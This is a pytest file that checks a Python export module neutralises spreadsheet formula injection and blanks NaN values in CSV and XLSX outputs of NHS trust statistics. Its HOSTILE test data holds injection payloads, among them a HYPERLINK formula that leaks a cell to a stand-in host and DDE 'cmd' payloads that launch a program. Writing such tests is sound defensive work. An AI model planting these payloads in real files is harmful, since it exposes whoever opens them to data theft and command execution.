"""Exports: formula injection neutralised in every CSV/XLSX, missing values as empty cells."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from audit_metrics import export
from audit_metrics.cli import main
from audit_metrics.pipeline import write_table

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
URL_SHAPED = ("http://evil.example", "https://evil.example/x", "mailto:someone@evil.example",
              "www.evil.example", "ftp://evil.example")


def _frame() -> pl.DataFrame:
    names = [*HOSTILE, *URL_SHAPED, "Elmbury NHS Trust"]
    n = len(names)
    return pl.DataFrame({
        "unit_code": [f"Z{i:02d}" for i in range(n)],
        "unit_name": names,
        "observed": [float(i) for i in range(n)],
        "z": [-1.5, float("nan"), float("inf"), float("-inf"), None, *[0.25] * (n - 5)],
        "status": pl.Series(["within"] * n, dtype=pl.Enum(["within", "alert_high"])),
    })


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_like(rows: list[list[str]]) -> list[str]:
    """CSV cells a spreadsheet would run: text starting with a trigger (numbers such as -1.5 are fine)."""
    return [c for row in rows for c in row if c.startswith(export.FORMULA_TRIGGERS) and not _is_number(c)]


def _check_workbook(data: bytes | Path, original: pl.DataFrame, sheet: str) -> None:
    """Every cell is a value: no formulas, no hyperlinks, no error cells; missing numbers empty."""
    wb = openpyxl.load_workbook(data if isinstance(data, Path) else io.BytesIO(data))
    ws = wb[sheet]
    header = [c.value for c in ws[1]]
    rows = list(ws.iter_rows(min_row=2))
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            assert cell.data_type != "e", (cell.coordinate, cell.value)
            assert cell.hyperlink is None, cell.coordinate
    # xlsx stores CR as the escape _x000D_, which openpyxl returns as is (Excel shows a CR)
    names = [r[header.index("unit_name")].value.replace("_x000D_", "\r") for r in rows]
    for want, got in zip(original["unit_name"], names, strict=True):
        assert got == ("'" + want if want.startswith(export.FORMULA_TRIGGERS) else want)
    z = [r[header.index("z")].value for r in rows]
    for want, got in zip(original["z"], z, strict=True):
        if want is None or not math.isfinite(want):
            assert got is None  # an empty cell, not NaN or #NUM!
        else:
            assert got == want and isinstance(got, float)


def test_excel_download_neutralises_formulas_links_and_nan() -> None:
    frame = _frame()
    xlsx = export.to_excel_bytes(frame, {"filters": {"alliances": [HOSTILE[0]]}, "note": HOSTILE[1]})
    _check_workbook(xlsx, frame, "results")
    methods = openpyxl.load_workbook(io.BytesIO(xlsx))["methods"]
    values = [c.value for row in methods.iter_rows() for c in row]
    assert "'" + HOSTILE[1] in values  # provenance text (e.g. a chosen alliance) neutralised too


def test_csv_download_neutralises_formulas_and_blanks_nan() -> None:
    frame = _frame()
    rows = list(csv.DictReader(io.StringIO(export.to_csv_bytes(frame).decode("utf-8"), newline="")))
    assert len(rows) == frame.height
    for want, row in zip(frame.iter_rows(named=True), rows, strict=True):
        name = row["unit_name"]
        assert not name.startswith(export.FORMULA_TRIGGERS)
        assert name == ("'" + want["unit_name"] if want["unit_name"].startswith(export.FORMULA_TRIGGERS)
                        else want["unit_name"])
        z = want["z"]
        assert row["z"] == ("" if z is None or not math.isfinite(z) else repr(z))


def test_negative_numbers_stay_numbers() -> None:
    frame = pl.DataFrame({"z": [-2.5], "name": ["-2.5"]})
    text = export.to_csv_bytes(frame).decode()
    assert text.splitlines()[1] == "-2.5,'-2.5"  # a number column untouched; text quoted


def test_hostile_column_name_neutralised() -> None:
    out = export.neutralise_formulas(pl.DataFrame({"=cmd": ["a"]}))
    assert out.columns == ["'=cmd"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_table_is_safe(tmp_path: Path, suffix: str) -> None:
    frame = _frame()
    out = tmp_path / f"t{suffix}"
    write_table(frame, out, sheet="results")
    if suffix == ".xlsx":
        _check_workbook(out, frame, "results")
    else:
        rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
        assert rows and not _formula_like(rows)
        assert "NaN" not in out.read_text() and "inf" not in out.read_text()


def test_cli_run_with_hostile_trust_names(project_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """End to end: trust names from the units file reach the CLI's CSV and XLSX only as text."""
    trusts = project_copy / "sample_data" / "trusts.csv"
    units = pl.read_csv(trusts, infer_schema=False)
    hostile = [*HOSTILE[:4], *URL_SHAPED[:2]]
    names = units["trust_name"].to_list()
    names[: len(hostile)] = hostile
    units.with_columns(pl.Series("trust_name", names)).write_csv(trusts)
    for suffix in (".csv", ".xlsx"):
        out = project_copy / f"results{suffix}"
        assert main(["run", "--indicators", str(project_copy / "indicators.yaml"), "--out", str(out),
                     "--indicator", "lung_cns", "--quiet"]) == 0
        if suffix == ".csv":
            text = out.read_text(encoding="utf-8")
            rows = list(csv.reader(io.StringIO(text, newline="")))
            assert not _formula_like(rows)
            assert "'" + HOSTILE[0] in {c for row in rows for c in row}
            assert ",NaN," not in text
        else:
            wb = openpyxl.load_workbook(out)
            cells = [c for row in wb["results"].iter_rows() for c in row]
            assert not [c.coordinate for c in cells if c.data_type in {"f", "e"} or c.hyperlink is not None]
            assert "'" + HOSTILE[1] in {c.value for c in cells}
            assert URL_SHAPED[0] in {c.value for c in cells}
